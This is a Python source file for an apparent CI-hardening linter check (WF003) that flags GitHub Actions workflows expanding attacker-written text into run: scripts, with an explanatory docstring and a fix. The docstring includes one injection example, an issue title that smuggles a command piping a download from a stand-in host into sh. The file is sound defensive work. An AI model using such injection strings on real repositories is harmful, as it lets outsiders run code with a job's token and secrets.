"""WF003: attacker-controlled text expanded into a script before it runs."""

from __future__ import annotations

from collections.abc import Iterator, Mapping, Sequence
from typing import TYPE_CHECKING

from repo_harden.checks.trust_boundaries.known_actions import GITHUB_SCRIPT, action_of, input_of
from repo_harden.checks.trust_boundaries.workflow_runs import (
    Run,
    callers_of,
    position_in,
    runs_of,
)
from repo_harden.core.declare import CheckContext, check
from repo_harden.core.lazy import lazy_import
from repo_harden.core.model import Finding, Severity
from repo_harden.core.record import record
from repo_harden.readers.workflows import (
    ACTION,
    ACTION_PATTERNS,
    WORKFLOW,
    WORKFLOW_PATTERNS,
    Job,
    Pairs,
    Step,
    Workflow,
    display,
    is_action_path,
    is_workflow_path,
)
from repo_harden.readers.yaml import Scalar

if TYPE_CHECKING:
    from repo_harden.checks.trust_boundaries import attacker_text
    from repo_harden.checks.trust_boundaries.attacker_text import Tainted
else:
    attacker_text = lazy_import("repo_harden.checks.trust_boundaries.attacker_text")

# Who can write each kind of field.
_AUTHORS = (
    ("comment", "anyone who can comment"),
    ("review", "anyone who can review a pull request"),
    ("issue", "anyone who can open an issue"),
    ("discussion", "anyone who can start a discussion"),
    ("pull_request", "anyone who can open a pull request"),
    ("head_ref", "anyone who can open a pull request (it is the branch name of their fork)"),
    ("commit", "whoever writes a commit that is pushed or merged (a pull request's author)"),
    ("workflow_run", "the author of the pull request whose workflow ran"),
    ("pages", "anyone who can edit the wiki"),
    ("check_", "whoever names a branch that runs checks"),
)


@record
class Place:
    """A step to judge: its job (None in a composite action), its number, what starts it,
    and the variables in scope."""

    job: Job | None
    index: int
    step: Step
    trigger: str
    env: Mapping[str, str]
    inputs: Mapping[str, str]
    runs: tuple[Run, ...] = ()  # the events that start the workflow (none known: any)

    def trigger_of(self, field: str) -> str | None:
        """The runs on which an outsider fills `field`, described for a message; None when
        no event that starts the workflow fills it (`github.head_ref` on `push`) or only
        `pull_request` does."""
        if not self.runs:
            return self.trigger
        events = attacker_text.events_filling(field)
        filled = [run for run in self.runs if run.event in events and run.event != "pull_request"]
        return _describe(filled) if filled else None

    @property
    def where(self) -> str:
        """How a message names the step (worked out only for a finding)."""
        owner = self.job.label() if self.job is not None else "this composite action"
        return f"{owner}, {self.step.label(self.index)}"

    @property
    def owner(self) -> str:
        return self.job.id.value if self.job is not None else ""


@check(
    "WF003",
    "template-injection",
    Severity.ERROR,
    WORKFLOW_PATTERNS + ACTION_PATTERNS,
    per_file=True,
)
def template_injection(ctx: CheckContext) -> Iterator[Finding]:
    """Attacker-controlled text is expanded into a `run:` script or a `github-script`.

    ## What it does
    Finds `${{ ... }}` expressions in `run:` scripts (in any shell) and in the `script:`
    of `actions/github-script`, in workflows and composite actions, whose value an
    outsider writes: issue, pull request, comment, review and discussion titles and
    bodies, the head branch of a pull request (`github.head_ref`), commit messages and
    author names, `workflow_run`'s head branch and commit. It follows one level of
    `env:` (`${{ env.TITLE }}` where `TITLE: ${{ github.event.issue.title }}`), and the
    inputs a reusable workflow's callers in the same repository pass it. An expression
    that only tests such text (`contains(github.event.issue.title, 'bug')`) is fine.

    A workflow that runs only for `pull_request` is not judged: a fork's pull request
    already runs its own code there, without secrets and with a read-only token, so an
    injection gives its author nothing more. A field is judged on the events whose
    payload holds it: `github.head_ref` in a workflow that runs on `push` (and
    `pull_request`) is empty on `push`, an issue's title is empty on `pull_request_target`.
    `workflow_dispatch` inputs are not an outsider's: only those who can write to the
    repository can start one.

    ## Why is this bad?
    The runner replaces `${{ ... }}` with its value before the shell (or Node.js) reads the
    script, so the value becomes code. An issue titled `a"; curl -sSfL evil.example/x |
    sh; echo "` runs the attacker's commands with the job's token and secrets.

    ## Example
    ```yaml title=".github/workflows/triage.yml"
    on:
      issues:
        types: [opened]
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: echo "Triaging ${{ github.event.issue.title }}"
    ```

    ## Fix
    Pass the value through an environment variable, which the shell reads as data:
    ```yaml title=".github/workflows/triage.yml"
    on:
      issues:
        types: [opened]
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: echo "Triaging $TITLE"
            env:
              TITLE: ${{ github.event.issue.title }}
    ```
    In `actions/github-script`, read `process.env.TITLE` or `context.payload` instead.

    ## References
    - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
    """
    for path in ctx.files:
        if is_workflow_path(path):
            yield from _workflow_findings(ctx, path)
        elif is_action_path(path):
            action = ctx.parsed.read(ACTION, path)
            for index, step in enumerate(action.steps if action else ()):
                env = _names(step.env)
                place = Place(None, index, step, "whatever workflow uses it", env, {})
                yield from _step_findings(ctx, path, place, step)


def _workflow_findings(ctx: CheckContext, path: str) -> Iterator[Finding]:
    workflow = ctx.parsed.read(WORKFLOW, path)
    if workflow is None:
        return
    steps = [
        (job, index, step)
        for job in workflow.jobs
        for index, step in enumerate(job.steps)
        if _targets(step)
    ]
    if not steps:
        return  # no expression in any script: nothing to ask about the triggers
    runs = runs_of(ctx, path, workflow)
    events = {run.event for run in runs}
    if events and events <= {"pull_request"}:
        return
    trigger = _describe_runs(runs, workflow)
    reusable = "workflow_call" in workflow.trigger_names()
    inputs = _caller_inputs(ctx, path) if reusable else {}
    for job, index, step in steps:
        env = _names(workflow.env, job.env, step.env)
        place = Place(job, index, step, trigger, env, inputs, runs)
        yield from _step_findings(ctx, path, place, step)


def _targets(step: Step) -> list[tuple[Scalar, str]]:
    """The scripts of a step that hold an expression, and what they are."""
    targets: list[tuple[Scalar, str]] = []
    if step.run is not None and "${{" in step.run.value:
        targets.append((step.run, "the `run:` script, before the shell reads it"))
    if step.uses is not None and action_of(step) == GITHUB_SCRIPT:
        script = input_of(step, "script")
        if script is not None and "${{" in script.value:
            targets.append((script, "the JavaScript of `actions/github-script`, before it runs"))
    return targets


def _step_findings(ctx: CheckContext, path: str, place: Place, step: Step) -> Iterator[Finding]:
    for scalar, into in _targets(step):
        for tainted in attacker_text.tainted_in(scalar.value, place.env, place.inputs):
            trigger = place.trigger_of(tainted.field)
            if trigger is None:
                continue
            at = position_in(ctx, path, scalar, tainted.expression.start)
            subject = f"{place.owner}:{place.index}:{tainted.expression.inner.strip()}"
            yield ctx.finding(path, at, _message(place, tainted, into, trigger), subject)


def _message(place: Place, tainted: Tainted, into: str, trigger: str) -> str:
    expression = display(tainted.expression.text, 80)
    variable = _variable_name(tainted.source)
    use = f"`process.env.{variable}`" if "JavaScript" in into else f'`"${variable}"` in the script'
    return (
        f"{place.where}: `{expression}` is expanded into {into}, and "
        f"`{display(tainted.source, 100)}` is text {_author(tainted.source)} chooses, "
        f"on {trigger}: it can end the quoting and run commands with the job's token and "
        f"secrets. Pass it through an environment variable (`env: {variable}: "
        f"{expression}`) and use {use}"
    )


def _author(source: str) -> str:
    lowered = source.lower()
    return next((who for key, who in _AUTHORS if key in lowered), "an outsider")


def _variable_name(source: str) -> str:
    last = source.split(" ", 1)[0].rstrip(".*").rsplit(".", 1)[-1]
    name = "".join(char if char.isalnum() else "_" for char in last).upper().strip("_")
    return name or "VALUE"


def _names(*scopes: Pairs) -> dict[str, str]:
    """Environment variables in scope, the innermost last (it wins), by lower-case name."""
    return {key.value.lower(): value.value for scope in scopes for key, value in scope}


def _caller_inputs(ctx: CheckContext, path: str) -> dict[str, str]:
    """What the repository's callers pass a reusable workflow, by input name; one tainted
    value among callers is enough."""
    found: dict[str, list[str]] = {}
    for caller in callers_of(ctx, path):
        for key, value in caller.job.inputs:
            found.setdefault(key.value.lower(), []).append(value.value)
    return {name: " ".join(values) for name, values in found.items()}


def _describe_runs(runs: tuple[Run, ...], workflow: Workflow) -> str:
    if not runs:
        if "workflow_call" in workflow.trigger_names():
            return "whatever workflow calls it"
        return "every event that runs it"
    return _describe(runs)


def _describe(runs: Sequence[Run]) -> str:
    shown = [run.describe() for run in runs[:3]]
    return ", ".join(shown) + (" ..." if len(runs) > 3 else "")
